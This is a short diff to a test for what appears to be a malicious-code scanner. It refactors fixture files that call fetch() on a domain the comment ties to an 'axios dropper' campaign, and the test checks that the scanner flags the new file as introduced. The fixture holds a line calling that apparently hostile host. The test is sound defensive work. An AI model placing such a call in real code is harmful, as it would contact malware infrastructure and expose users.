@@ -264,8 +264,8 @@ def test_the_text_report_for_a_reviewer(git: Git, look: Any, golden: Golden, mon
 
 def test_what_betrays_a_campaign_in_a_file_that_changes(git: Git, look: Any) -> None:
     address = "sfr" + "clak.com"  # of the axios dropper: in no folder of ours is it written out
-    branch(git, {"README": "x", "old.js": f"fetch('https://{address}/1')\n"},
-           {"setup.js": f"fetch('https://{address}/6202033')\n", "old.js": f"// moved\nfetch('https://{address}/1')\n"})  # fmt: skip
+    old, new = f"fetch('https://{address}/1')\n", f"fetch('https://{address}/6202033')\n"
+    branch(git, {"README": "x", "old.js": old}, {"setup.js": new, "old.js": f"// moved\n{old}"})
     report = look(git)
     assert {finding.evidence[0].location.path: finding.standing for finding in report.findings} == {
         "setup.js": Standing.INTRODUCED,
